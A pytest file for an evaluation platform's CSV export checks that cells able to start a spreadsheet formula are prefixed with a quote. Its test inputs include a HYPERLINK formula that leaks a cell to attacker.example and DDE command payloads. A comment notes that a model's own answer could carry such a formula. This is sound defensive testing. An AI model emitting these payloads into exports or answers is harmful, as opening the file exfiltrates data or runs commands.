"""SPEC §10 Exports: a CSV cell a spreadsheet would run as a formula is written as text (leading ')."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command

from evaluations.tests.factories import TestResultFactory
from openbench.csvsafe import SafeDictWriter, csv_safe_cell

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for your score")'


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "-1"],
)
def test_text_that_could_start_a_formula_is_prefixed_with_a_quote(text: str) -> None:
    assert csv_safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Lima", "", "a=b", " =not first", "'already quoted", "1-2"])
def test_ordinary_text_is_written_as_it_is(text: str) -> None:
    assert csv_safe_cell(text) == text


@pytest.mark.parametrize("number", [-0.5, -3, Decimal("-0.25"), 0, True, None])
def test_values_written_as_numbers_are_exempt_even_when_negative(number: object) -> None:
    assert csv_safe_cell(number) is number


def test_the_safe_writer_neutralises_every_cell_and_keeps_the_header() -> None:
    buffer = io.StringIO()
    writer = SafeDictWriter(buffer, fieldnames=["answer", "score"])
    writer.writeheader()
    writer.writerows([{"answer": HYPERLINK, "score": -0.5}, {"answer": "Lima", "score": 1.0}])
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert rows == [{"answer": "'" + HYPERLINK, "score": "-0.5"}, {"answer": "Lima", "score": "1.0"}]


@pytest.mark.django_db
def test_a_model_answer_with_a_hyperlink_formula_is_exported_as_text(tmp_path) -> None:  # type: ignore[no-untyped-def]
    # The attack: a test whose expected answer makes a model reply with a formula (or a title that is one),
    # hoping a moderator opens the export in a spreadsheet and it phones home with the neighbouring cells.
    result = TestResultFactory(raw_output=HYPERLINK, error_message="@SUM(1+1)*cmd|' /C calc'!A0")
    result.test_case.title = "=1+1"
    result.test_case.save(update_fields=["title"])
    target = tmp_path / "out.csv"
    call_command("export_results", format="csv", output=target, stdout=io.StringIO(), stderr=io.StringIO())

    (row,) = csv.DictReader(io.StringIO(target.read_text(encoding="utf-8")))
    assert row["raw_output"] == "'" + HYPERLINK
    assert row["error_message"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["test_title"] == "'=1+1"
    # Nothing in the file starts a formula: every cell starting with one of the characters is quoted.
    for value in row.values():
        assert not value.startswith(("=", "+", "@", "\t", "\r")), value
    # Numbers we wrote stay numbers, and the JSONL export is untouched (JSON is not run by spreadsheets).
    assert float(row["score"]) == result.score
    call_command("export_results", format="jsonl", output=tmp_path / "out.jsonl", stderr=io.StringIO())
    assert HYPERLINK.replace('"', '\\"') in (tmp_path / "out.jsonl").read_text(encoding="utf-8")
